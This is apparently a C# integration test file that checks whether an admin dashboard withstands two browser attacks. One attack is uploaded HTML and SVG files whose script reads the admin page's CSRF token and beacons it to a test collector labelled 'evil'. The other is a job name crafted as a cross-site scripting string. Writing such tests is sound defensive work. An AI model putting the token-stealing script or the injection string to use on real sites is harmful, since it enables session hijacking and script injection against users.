using System.Text;
using IpsApi.IntegrationTests.AssetWork;
using IpsApi.IntegrationTests.Infrastructure;
using IpsApi.IntegrationTests.Reliability;
using IpsApi.Jobs.Accounts;

namespace IpsApi.IntegrationTests.Ops;

/// <summary>
/// Attacks on a signed-in IpsAdmin's browser (Debian's headless Chromium, tests/ops-ui/attacks.mjs): a company's
/// published HTML and SVG files whose scripts try to read the dashboard, and a job name that is script in disguise.
/// </summary>
[Collection(ServerCollection.Name)]
public sealed class DashboardAttackBrowserTests(ServerFixture server)
{
    [Fact]
    public async Task Published_html_and_svg_files_cannot_read_the_dashboard_of_a_signed_in_admin()
    {
        OpsBrowser.AssertAvailable();
        var tenant = await server.NewTenantAsync();
        var admin = await server.NewTenantAsync(UserRole.IpsAdmin);
        var beacon = $"evil-{Guid.NewGuid():N}";
        var collector = server.Files.Url($"/callbacks/{beacon}");
        var steal = $$"""
            (async () => {
              for (const url of ['/ops/', '{{server.OpsAddress.ToString().TrimEnd('/')}}/ops/']) {
                try {
                  const text = await (await fetch(url, { credentials: 'include' })).text();
                  const token = /name="__csrf" value="([^"]+)"/.exec(text);
                  navigator.sendBeacon('{{collector}}', url + (token ? ' token ' + token[1] : ' read ' + text.length + ' characters'));
                } catch (e) {
                  navigator.sendBeacon('{{collector}}', url + ' refused');
                }
              }
            })();
            """;
        var html = Encoding.UTF8.GetBytes($"<!doctype html><title>prices</title><script>{steal}</script><p>Our prices</p>");
        var svg = Encoding.UTF8.GetBytes(
            $"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script><![CDATA[{steal}]]></script><rect width=\"10\" height=\"10\"/></svg>");
        await AssetWorkSteps.UploadAsync(server, tenant, [("render/evil.html", html), ("render/evil.svg", svg)], readyForPublish: true);
        var publish = await AssetWorkSteps.RunAsync(server, tenant, "publish render",
            "<imageRenderingPublishJob><emailSetting>None</emailSetting></imageRenderingPublishJob>");
        Assert.Equal("Done", publish.State);
        var evil = $"{Content(tenant, "evil.html")},{Content(tenant, "evil.svg")}";

        var (code, output) = await OpsBrowser.RunAsync("attacks.mjs", new Dictionary<string, string>
        {
            ["SCENARIO"] = "published-file",
            ["OPS_URL"] = server.OpsAddress.ToString().TrimEnd('/'),
            ["OPS_EMAIL"] = admin.Email,
            ["OPS_PASSWORD"] = admin.Password,
            ["EVIL_URLS"] = evil,
            // Any page of the main origin (here one without a sandbox, so script runs in it): the origin delivery shares.
            ["DELIVERY_PAGE"] = new Uri(server.BaseAddress, "/health/live").ToString(),
        });

        Assert.True(code == 0, output);
        Assert.Contains("step: signed in", output, StringComparison.Ordinal);
        Assert.Contains("step: evil.html: a download, not a page", output, StringComparison.Ordinal);
        Assert.Contains("step: evil.svg: a download, not a page", output, StringComparison.Ordinal);
        Assert.Contains("step: from the delivery origin: /ops/ -> 404; dashboard -> refused (TypeError)", output, StringComparison.Ordinal);
        // Neither file's script ran at all: nothing reached the collector, not even a refusal.
        Assert.Empty(server.Files.CallbacksTo(beacon));
        SecurityReview.Held(
            "An HTML and an SVG file published by a company (imageRenderingPublishJob), their scripts reading /ops/ for the form token, opened in Chromium by a signed-in IpsAdmin",
            "2 files",
            "both were downloads (Content-Disposition: attachment, X-Content-Type-Options: nosniff, Content-Security-Policy: sandbox); no script ran; script on the main origin gets 404 for /ops and a CORS refusal from the dashboard's own listener",
            "0 beacons received");
    }

    [Fact]
    public async Task A_job_name_that_is_script_in_disguise_stays_text_when_an_admin_deletes_the_job()
    {
        OpsBrowser.AssertAvailable();
        var tenant = await server.NewTenantAsync();
        var admin = await server.NewTenantAsync(UserRole.IpsAdmin);
        const string name = "nightly'+(document.title='XSS-'+document.domain)+'";
        await server.SubmitAsync(tenant, name, "<execSchedule>0 0 3 * * ?</execSchedule><createVideoSitemapJob/>");

        var (code, output) = await OpsBrowser.RunAsync("attacks.mjs", new Dictionary<string, string>
        {
            ["SCENARIO"] = "job-name",
            ["OPS_URL"] = server.OpsAddress.ToString().TrimEnd('/'),
            ["OPS_EMAIL"] = admin.Email,
            ["OPS_PASSWORD"] = admin.Password,
            ["OPS_JOB"] = name,
        });

        Assert.True(code == 0, output);
        Assert.Contains("step: the job is listed under its name as text", output, StringComparison.Ordinal);
        Assert.Contains("step: deleted;", output, StringComparison.Ordinal);
        Assert.DoesNotContain("Content-Security-Policy blocked", output, StringComparison.Ordinal);
        Assert.Equal(1L, await server.ScalarAsync<long>(
            "select count(*) from jobs j join companies c on c.id = j.company_id where c.handle = @c and j.name = @n and j.deleted_at is not null",
            ("c", tenant.CompanyHandle), ("n", name)));
        SecurityReview.Held(
            $"A cron job named `{name}` by a company user; an IpsAdmin presses its Delete button in Chromium",
            "1",
            "the confirmation shows the name as text and the job is deleted; the title stays; no /ops page has an inline script or handler, and every /ops answer carries a Content-Security-Policy without 'unsafe-inline'");
    }

    private string Content(TestTenant tenant, string file) => new Uri(server.BaseAddress, $"/is/content/{tenant.CompanyHandle}/render/{file}").ToString();
}
